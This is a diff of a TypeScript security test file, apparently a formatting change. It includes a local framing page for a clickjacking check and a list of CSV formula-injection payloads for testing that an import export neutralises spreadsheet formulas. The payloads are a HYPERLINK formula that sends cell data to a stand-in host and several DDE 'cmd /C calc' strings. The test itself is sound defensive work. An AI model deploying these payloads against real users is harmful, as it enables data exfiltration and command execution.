@@ -12,7 +12,9 @@ async function attackerSite(target: string) {
   const server = http.createServer((req, res) => {
     res.writeHead(200, { "content-type": "text/html" });
     if (req.url === "/own") return res.end("<!doctype html><p id=own>attacker's own page</p>");
-    res.end(`<!doctype html><h1>Win a prize</h1><iframe id=victim src="${target}" width=800 height=600></iframe><iframe id=own src="/own"></iframe>`);
+    res.end(
+      `<!doctype html><h1>Win a prize</h1><iframe id=victim src="${target}" width=800 height=600></iframe><iframe id=own src="/own"></iframe>`,
+    );
   });
   await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
   return { url: `http://127.0.0.1:${(server.address() as { port: number }).port}/`, close: () => server.close() };
@@ -65,7 +67,12 @@ test("the import results CSV neutralises cells a spreadsheet would run as formul
   await admin("workspace:plan", { slug, plan: "team" });
   const tag = Date.now().toString(36);
   // What an attacker would hand a victim to import: formulas in the url and alias cells.
-  const attacks = ['=HYPERLINK("https://evil.test/steal?x="&A1,"Open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"];
+  const attacks = [
+    '=HYPERLINK("https://evil.test/steal?x="&A1,"Open")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+  ];
   const csv = [
     "url,alias",
     `"${attacks[0].replace(/"/g, '""')}",`,
